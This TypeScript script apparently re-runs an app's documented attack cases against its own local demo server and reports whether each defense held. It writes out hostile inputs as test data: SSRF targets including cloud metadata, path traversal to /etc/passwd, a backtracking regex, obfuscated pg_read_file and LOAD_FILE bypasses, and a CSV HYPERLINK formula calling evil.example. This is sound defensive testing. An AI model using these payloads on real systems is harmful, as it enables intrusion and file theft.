import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { fetchClient } from '../apps/server/test/support/http.ts';
import { signIn } from '../apps/server/test/support/sign-in.ts';

// The attack cases of docs/security.md ("Attack cases re-run against a built server"), sent as an outsider, a
// Reader, a partner and a narrowed token would, to a running server in the embedded demo mode. Start it as:
//
//   PORT=8117 DATA_DIR=/tmp/attack DEMO_SHOP_ORDERS=2000 SQL_HOST_ALLOWLIST=127.0.0.1:5432,127.0.0.1:3306 \
//     MAX_EXPORT_ROWS=50 DOWNLOAD_RETENTION_HOURS=0.01 npm start
//
// then `BASE_URL=http://localhost:8117 DATA_DIR=/tmp/attack node scripts/attack-check.ts`. It needs the local
// PostgreSQL (`postgres`, trust) and MariaDB (`root`) of a development machine, and a read-only PostgreSQL login
// `dl_attack_ro` (password `attack-ro`; `create role dl_attack_ro login password 'attack-ro'`). Each case prints
// HELD or BROKE and what came back; the exit code is the number of broken cases. It changes the demo's data.

const BASE = process.env['BASE_URL'] ?? 'http://localhost:8117';
const DATA_DIR = process.env['DATA_DIR'];
const PASSWORD = process.env['DEMO_PASSWORD'] ?? 'datalab';

interface Reply {
  status: number;
  text: string;
  json: any; // eslint-disable-line @typescript-eslint/no-explicit-any -- replies of many shapes, read by hand
  ms: number;
  headers: Headers;
}

async function api(token: string | null, method: string, path: string, body?: unknown, headers = {}): Promise<Reply> {
  const started = performance.now();
  const response = await fetch(`${BASE}${path}`, {
    method,
    headers: {
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...headers,
    },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await response.text();
  let json: unknown = null;
  try {
    json = JSON.parse(text);
  } catch {
    // not JSON: an export
  }
  return {
    status: response.status,
    text,
    json,
    ms: Math.round(performance.now() - started),
    headers: response.headers,
  };
}

const results: { name: string; how: string; result: string; held: boolean }[] = [];
function record(name: string, how: string, held: boolean, result: string) {
  results.push({ name, how, result, held });
  process.stdout.write(`${held ? 'HELD ' : 'BROKE'} ${name}\n      sent: ${how}\n      got:  ${result}\n`);
}
const short = (reply: Reply) => `${reply.status} ${(reply.json?.title ?? reply.text).toString().slice(0, 160)}`;
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const unique = (name: string) => `${name} ${randomBytes(3).toString('hex')}`;

async function token(username: string): Promise<string> {
  const publicUrl = BASE.replace('127.0.0.1', 'localhost');
  return (await signIn(fetchClient(), { publicUrl, username, password: PASSWORD })).access_token;
}

const admin = await token('admin');
const analyst = await token('analyst');
const partner = await token('partner');
const partnerId: number = (await api(partner, 'GET', '/api/Account/GetCurrentUser')).json.id;
const collections = (await api(admin, 'GET', '/api/DataSourceCollection/GetAll')).json.items as {
  uid: string;
  name: string;
}[];
const sales = collections.find((c) => c.name === 'Sales')!.uid;
const operations = collections.find((c) => c.name === 'Operations')!.uid;
const shop = (
  (await api(admin, 'GET', `/api/SqlConnection?collectionUid=${sales}`)).json as { id: number; kind: string }[]
).find((c) => c.kind === 'sqlite')!.id;

async function asset(connectionId: number, sql: string, parameters: unknown[] = []): Promise<string> {
  const saved = await api(admin, 'POST', '/api/SqlDataSource', {
    collectionUid: sales,
    connectionId,
    name: unique('Attack'),
    sql,
    parameters,
  });
  if (saved.status !== 201) throw new Error(`asset not saved: ${saved.text}`);
  return saved.json.uid as string;
}

async function connection(body: Record<string, unknown>): Promise<Reply> {
  return api(admin, 'POST', '/api/SqlConnection', { collectionUid: sales, name: unique('Attack db'), ...body });
}

interface Job {
  id: string;
  state: string;
  expiresAt: string;
  truncated?: boolean;
}

async function completedJob(who: string, dataAssetUid: string, format = 'csv'): Promise<Job> {
  const started = await api(who, 'POST', '/api/Download', { dataAssetUid, format });
  for (let i = 0; i < 60; i += 1) {
    const job = await api(who, 'GET', `/api/Download/${started.json.id}/Status`);
    if (job.json.state === 'Completed' || job.json.state === 'Failed') return job.json as Job;
    await sleep(250);
  }
  throw new Error('download did not finish');
}

// 0. Where SQL connections may point: internal hosts and ports, another collection's SQLite file.
{
  const own = (await api(analyst, 'POST', '/api/DataSourceCollection', { name: unique('Analyst lab') })).json.uid;
  const targets = [
    ['127.0.0.1', 6379],
    ['127.0.0.1', 22],
    ['0x7f000001', 5433],
    ['::ffff:127.0.0.1', 6379],
    ['10.0.0.5', 5432],
    ['169.254.169.254', 80],
    ['metadata.google.internal', 5432],
    ['/var/run/postgresql', 5432],
  ] as const;
  const answers: string[] = [];
  let allRefused = true;
  for (const [host, port] of targets) {
    const body = { collectionUid: own, name: 'x', kind: 'postgres', host, port, database: 'postgres', username: 'u' };
    const tested = await api(analyst, 'POST', '/api/SqlConnection/Test', { ...body, password: 'x' });
    allRefused &&= tested.status === 400 && Boolean(tested.json?.errors?.host);
    answers.push(`${host}:${port} ${tested.status} ${tested.ms} ms`);
  }
  record(
    'SQL connections to internal hosts and ports',
    `analyst (Owner of a new collection) tests ${targets.length} internal targets; SQL_HOST_ALLOWLIST lists 127.0.0.1:5432 and :3306 only`,
    allRefused,
    `${answers.join('; ')}; e.g. "${
      (
        await api(analyst, 'POST', '/api/SqlConnection/Test', {
          collectionUid: own,
          name: 'x',
          kind: 'postgres',
          host: '10.0.0.5',
          port: 5432,
          database: 'postgres',
          username: 'u',
          password: 'x',
        })
      ).json?.errors?.host?.[0]
    }"`,
  );
  const paths = [
    `../${sales}/shop.sqlite`,
    `${DATA_DIR ?? '/data'}/sqlite/${sales}/shop.sqlite`,
    '../../store.sqlite',
    '/etc/passwd',
  ];
  const opened: string[] = [];
  for (const database of paths) {
    const saved = await api(analyst, 'POST', '/api/SqlConnection', {
      collectionUid: own,
      name: unique('s'),
      kind: 'sqlite',
      database,
    });
    if (saved.status === 201) opened.push(database);
  }
  record(
    "Another collection's SQLite file",
    `analyst saves SQLite connections to ${paths.join(', ')}`,
    opened.length === 0,
    opened.length
      ? `saved: ${opened.join(', ')}`
      : 'each 400 on database: "The SQLite file must be in the collection\'s own folder…"',
  );
}

// 1. Backtracking pattern.
{
  const uid = await asset(shop, 'select :s as s', [{ name: 's', type: 'string', required: true, pattern: '^(a+)+$' }]);
  const plain = await asset(shop, 'select 1 as one');
  const evil = `${'a'.repeat(40)}!`;
  const [attack, other] = await Promise.all([
    api(partner, 'GET', `/data/v1/${uid}?s=${evil}`),
    sleep(5).then(() => api(partner, 'GET', `/data/v1/${plain}`)),
  ]);
  record(
    'Backtracking pattern ^(a+)+$',
    `Editor saves the pattern; partner sends 40 "a" and "!", another call at once`,
    attack.ms < 100 && other.ms < 200,
    `${short(attack)} "${attack.json?.errors?.s?.[0]}" in ${attack.ms} ms; the other call ${other.status} in ${other.ms} ms`,
  );
}

// 2. Downloads: narrowed token, withdrawn role, expiry.
{
  const plain = await asset(shop, 'select id from orders');
  const narrowed = await api(admin, 'POST', '/api/Token', {
    name: unique('narrowed'),
    kind: 'personal',
    roles: [{ collectionUid: operations, role: 'Reader' }],
  });
  const secret: string = narrowed.json.secret;
  const job = await completedJob(admin, plain);
  const list = await api(secret, 'GET', '/api/Download');
  const status = await api(secret, 'GET', `/api/Download/${job.id}/Status`);
  const file = await api(secret, 'GET', `/api/Download/${job.id}/File`);
  const own = await api(admin, 'GET', `/api/Download/${job.id}/File`);
  record(
    'Download with a token narrowed to another collection',
    `admin's token narrowed to Operations: GET /api/Download, /{id}/Status, /{id}/File of a Sales job`,
    !list.json.items.some((j: { id: string }) => j.id === job.id) && status.status === 404 && file.status === 404,
    `list ${list.status} without the job; Status ${short(status)}; File ${file.status}; the owner's session ${own.status}`,
  );
  const tokens = await api(secret, 'GET', '/api/Token/GetAll');
  const names = (tokens.json.items ?? tokens.json).map((t: { name: string }) => t.name);
  record(
    'Narrowed token lists tokens',
    'GET /api/Token/GetAll with the token narrowed to Operations',
    tokens.status === 403 || names.length <= 1,
    `${tokens.status}, ${names.length} token(s): ${names.join(', ').slice(0, 80)}`,
  );

  const partnerJob = await completedJob(partner, plain);
  const before = await api(partner, 'GET', `/api/Download/${partnerJob.id}/File`);
  await api(admin, 'PUT', `/api/DataRole/${partnerId}/UserDataRoles`, { collectionUid: sales, role: null });
  const after = await api(partner, 'GET', `/api/Download/${partnerJob.id}/File`);
  const afterStatus = await api(partner, 'GET', `/api/Download/${partnerJob.id}/Status`);
  await api(admin, 'PUT', `/api/DataRole/${partnerId}/UserDataRoles`, { collectionUid: sales, role: 'Reader' });
  record(
    'Download after the role was withdrawn',
    "partner downloads a Sales file, admin withdraws partner's Sales role, partner fetches the file again",
    before.status === 200 && after.status === 404 && afterStatus.status === 404,
    `before ${before.status}; after: File ${short(after)}, Status ${afterStatus.status}`,
  );

  const expiresAt = Date.parse(job.expiresAt);
  await sleep(Math.max(0, expiresAt - Date.now()) + 500);
  const expired = await api(admin, 'GET', `/api/Download/${job.id}/File`);
  const expiredStatus = await api(admin, 'GET', `/api/Download/${job.id}/Status`);
  record(
    'Download past expiresAt',
    'DOWNLOAD_RETENTION_HOURS=0.01; the owner fetches the file 0.5 s after its expiresAt (before the sweep)',
    expired.status !== 200,
    `File ${short(expired)}; Status ${expiredStatus.status} ${expiredStatus.json?.state}`,
  );
}

// 3. Privileged database accounts and the statement guard.
{
  const pgBase = { kind: 'postgres', host: '127.0.0.1', port: 5432, database: 'postgres' };
  const superuser = await connection({ ...pgBase, username: 'postgres', password: 'x' });
  const tested = await api(admin, 'POST', '/api/SqlConnection/Test', {
    collectionUid: sales,
    name: 'x',
    ...pgBase,
    username: 'postgres',
    password: 'x',
  });
  record(
    'PostgreSQL superuser connection',
    'save and test a connection as postgres (superuser)',
    superuser.status === 400 && tested.status === 400,
    `save ${superuser.status} "${superuser.json?.errors?.username?.[0]?.slice(0, 90)}…"; test ${tested.status}`,
  );
  const overridden = await connection({ ...pgBase, username: 'postgres', password: 'x', allowPrivilegedAccount: true });
  const id: number = overridden.json.id;
  const statements = [
    "select pg_read_file('/etc/passwd')",
    'select "pg_read_file"(\'/etc/passwd\')',
    "select pg_catalog.pg_read_binary_file('/etc/passwd')",
    "select lo_import('/etc/passwd')",
    "select * from pg_ls_dir('/')",
    "select query_to_xml('select pg_read_file(''/etc/passwd'')', true, true, '')",
    "select query_to_xml('select pg_read'||'_file(''/etc/passwd'')', true, true, '')",
    "select query_to_xml(convert_from('\\x73656c6563742070675f726561645f66696c6528272f6574632f70617373776427293b', 'utf8'), true, true, '')",
  ];
  const los = () =>
    spawnSync('psql', ['-h', '127.0.0.1', '-U', 'postgres', '-tAc', 'select count(*) from pg_largeobject_metadata'], {
      encoding: 'utf8',
    }).stdout.trim();
  const losBefore = los();
  const leaks: string[] = [];
  const answers: string[] = [];
  for (const sql of statements) {
    const preview = await api(admin, 'POST', '/api/SqlDataSource/Preview', {
      collectionUid: sales,
      connectionId: id,
      name: 'p',
      sql,
    });
    if (preview.text.includes('root:')) leaks.push(sql);
    answers.push(`${preview.status}`);
  }
  record(
    'File functions on a superuser connection an administrator allowed',
    `Preview of ${statements.length} statements (pg_read_file plain, quoted, schema-qualified, binary; lo_import; pg_ls_dir; query_to_xml of a string, a concatenation and hex)`,
    leaks.length === 0 && los() === losBefore,
    `statuses ${answers.join(', ')}; /etc/passwd in ${leaks.length} answer(s)${leaks.length ? `: ${leaks.join(' | ')}` : ''}; large objects ${losBefore} → ${los()}`,
  );
  const maria = await connection({
    kind: 'mysql',
    host: '127.0.0.1',
    port: 3306,
    database: 'mysql',
    username: 'root',
    password: '',
  });
  const mariaAllowed = await connection({
    kind: 'mysql',
    host: '127.0.0.1',
    port: 3306,
    database: 'mysql',
    username: 'root',
    password: '',
    allowPrivilegedAccount: true,
  });
  const loads = [
    "select load_file('/etc/passwd')",
    'select LOAD_FILE(0x2f6574632f706173737764)',
    "select load_file/**/('/etc/passwd')",
    "select `load_file`('/etc/passwd')",
  ];
  const mariaLeaks: string[] = [];
  for (const sql of loads) {
    const preview = await api(admin, 'POST', '/api/SqlDataSource/Preview', {
      collectionUid: sales,
      connectionId: mariaAllowed.json.id,
      name: 'p',
      sql,
    });
    if (preview.text.includes('root:')) mariaLeaks.push(sql);
  }
  record(
    'MariaDB account with FILE',
    'save root@127.0.0.1 (FILE, SUPER); with the override, Preview LOAD_FILE plain, hex, commented, back-quoted',
    maria.status === 400 && mariaLeaks.length === 0,
    `save ${maria.status} "${maria.json?.errors?.username?.[0]?.slice(0, 70)}…"; /etc/passwd in ${mariaLeaks.length} answer(s)`,
  );
}

// 4. Token-shaped secrets in logs, usage, error bodies and client reports.
{
  const fake = `dlp_${randomBytes(40).toString('base64url').replace(/[-_]/g, 'x').slice(0, 46)}`;
  const notFound = await api(partner, 'GET', `/data/v1/${fake}`);
  const client = await api(partner, 'POST', '/api/ApplicationLog/ClientErrors', {
    message: `boom ${fake}`,
    path: `/x/${fake}`,
  });
  const badToken = await api(fake, 'GET', '/api/Account/GetCurrentUser');
  const inUrl = await api(null, 'GET', `/data/v1/x?access_token=${fake}`);
  await sleep(1500);
  const logs = await api(admin, 'GET', '/api/ApplicationLog/GetApplicationLogs?pageSize=50');
  const stored = DATA_DIR ? filesContaining(DATA_DIR, fake) : [];
  record(
    'Token-shaped secret in URLs, logs, usage and client reports',
    'GET /data/v1/<dlp_ secret>; a client error report carrying one; a bad token; a token in the query string',
    !notFound.text.includes(fake) && !logs.text.includes(fake) && stored.length === 0 && client.status === 202,
    `404 "${notFound.json?.title}"; report ${client.status}; bad token ${short(badToken)}; token in URL ${inUrl.status}; ` +
      `secret in the log API: ${logs.text.includes(fake)}; files under DATA_DIR holding it: ${DATA_DIR ? stored.length : 'not checked'}`,
  );
}

function filesContaining(dir: string, needle: string): string[] {
  const found: string[] = [];
  for (const entry of readdirSync(dir)) {
    const path = join(dir, entry);
    if (statSync(path).isDirectory()) found.push(...filesContaining(path, needle));
    else if (readFileSync(path).includes(needle)) found.push(path);
  }
  return found;
}

// 5. COPY header, Reader error texts, exchange header, echo caps, truncation.
{
  const readOnly = await connection({
    kind: 'postgres',
    host: '127.0.0.1',
    port: 5432,
    database: 'postgres',
    username: 'dl_attack_ro',
    password: 'attack-ro',
  });
  const csvUid = await asset(
    readOnly.json.id,
    'select 1 as "=HYPERLINK(""http://evil.example/""&A1)", 2 as "@SUM(1+1)"',
  );
  const csv = await api(partner, 'GET', `/data/v1/${csvUid}?format=csv`);
  const header = csv.text.split('\n')[0] ?? '';
  record(
    'Formula in a PostgreSQL COPY header',
    'Reader downloads CSV of select 1 as "=HYPERLINK(…)", 2 as "@SUM(1+1)"',
    csv.status === 200 && !/(^|,)"?[=@+-]/.test(header),
    `${csv.status} header: ${header.slice(0, 100)}`,
  );

  const castUid = await asset(readOnly.json.id, 'select cast(:v as integer) as n', [{ name: 'v', type: 'string' }]);
  const asReader = await api(partner, 'GET', `/data/v1/${castUid}?v=secret-value-4711`);
  const asEditor = await api(admin, 'POST', '/api/SqlDataSource/Preview', {
    collectionUid: sales,
    connectionId: readOnly.json.id,
    name: 'p',
    sql: "select cast('secret-value-4711' as integer) as n",
  });
  record(
    'Database error text for Readers',
    'Reader calls select cast(:v as integer) with v=secret-value-4711; Editor previews the same',
    !asReader.text.includes('secret-value') && Boolean(asReader.json?.requestId),
    `Reader ${short(asReader)} (request id given); Editor preview ${short(asEditor)}`,
  );

  const webApi = (
    (await api(admin, 'GET', '/api/DataSource/GetAll?pageSize=100')).json.items as { uid: string; kind: string }[]
  ).find((a) => a.kind === 'webapi')!.uid;
  const exchange = { 'x-datalab-exchange': '1' };
  const exchangeReader = await api(partner, 'GET', `/data/v1/${webApi}?region=1&country=FR`, undefined, exchange);
  const exchangeOwner = await api(admin, 'GET', `/data/v1/${webApi}?region=1&country=ES`, undefined, exchange);
  const carries = (reply: Reply) => Array.isArray(reply.json?.exchanges) || reply.text.includes('/demo-api/');
  record(
    'X-DataLab-Exchange: 1 as a Reader',
    'partner (Reader) and admin (Owner) call the Web API asset with X-DataLab-Exchange: 1',
    !carries(exchangeReader) && !exchangeReader.text.includes('127.0.0.1'),
    `Reader ${exchangeReader.status}, exchange shown: ${carries(exchangeReader)}; Owner ${exchangeOwner.status}, shown: ${carries(exchangeOwner)}`,
  );

  const long = `A${'b'.repeat(1500)}`;
  const echo = await api(partner, 'GET', `/api/DataSource/GetByUid/${long}`);
  const echoData = await api(partner, 'GET', `/data/v1/${long}`);
  record(
    'Error bodies echo the requested id',
    'GET /api/DataSource/GetByUid/<1501 characters> and /data/v1/<same>',
    echo.text.length < 400 && echoData.text.length < 400,
    `${echo.status} body ${echo.text.length} chars ("${echo.json?.title?.slice(0, 60)}…"); /data/v1 ${echoData.status} ${echoData.text.length} chars`,
  );

  const rows = await asset(shop, 'select id from orders');
  const cut = await api(partner, 'GET', `/data/v1/${rows}?format=csv`);
  const ndjson = await api(partner, 'GET', `/data/v1/${rows}?format=ndjson`);
  const trailer = await trailerOf(`/data/v1/${rows}?format=csv`, partner);
  const job = await completedJob(partner, rows);
  record(
    'Exports cut at MAX_EXPORT_ROWS',
    'MAX_EXPORT_ROWS=50; Reader exports 2000 orders as CSV and NDJSON (TE: trailers) and as a download job',
    /50/.test(cut.text.trim().split('\n').at(-1) ?? '') && job.truncated === true && trailer !== undefined,
    `CSV last line "${cut.text.trim().split('\n').at(-1)?.slice(0, 80)}"; NDJSON last line "${ndjson.text.trim().split('\n').at(-1)?.slice(0, 80)}"; trailer Data-Lab-Truncated: ${trailer}; job truncated: ${job.truncated}`,
  );
}

function trailerOf(path: string, bearer: string): Promise<string | undefined> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      `${BASE}${path}`,
      { headers: { authorization: `Bearer ${bearer}`, te: 'trailers' } },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.trailers['data-lab-truncated']));
      },
    );
    req.on('error', reject);
    req.end();
  });
}

// 6. Empty POST bodies; a weak signing key in production.
{
  const purge = await fetch(`${BASE}/api/Caching/PurgeCache`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin}` },
  });
  const purgeJson = await fetch(`${BASE}/api/Caching/PurgeCache`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
  });
  record(
    'POST with an empty body',
    'POST /api/Caching/PurgeCache with no body, and with Content-Type: application/json and no body',
    purge.status < 300 && purgeJson.status < 300,
    `${purge.status} and ${purgeJson.status}`,
  );
  const sequence = Buffer.from(Array.from({ length: 32 }, (_, i) => i)).toString('base64');
  const started = spawnSync(process.execPath, ['apps/server/dist/server.js'], {
    encoding: 'utf8',
    timeout: 20_000,
    env: {
      ...process.env,
      NODE_ENV: 'production',
      PORT: '0',
      SIGNING_KEY: sequence,
      ENCRYPTION_KEY: randomBytes(32).toString('base64'),
    },
  });
  const said = `${started.stdout}${started.stderr}`.split('\n').find((line) => /SIGNING_KEY/.test(line)) ?? '';
  record(
    'Weak signing key in production',
    'NODE_ENV=production with SIGNING_KEY = the bytes 0x00–0x1f',
    started.status !== 0 && said !== '',
    `exit ${started.status}: ${said.slice(0, 160)}`,
  );
}

const broken = results.filter((r) => !r.held);
process.stdout.write(`\n${results.length - broken.length} held, ${broken.length} broke\n`);
process.exit(broken.length);
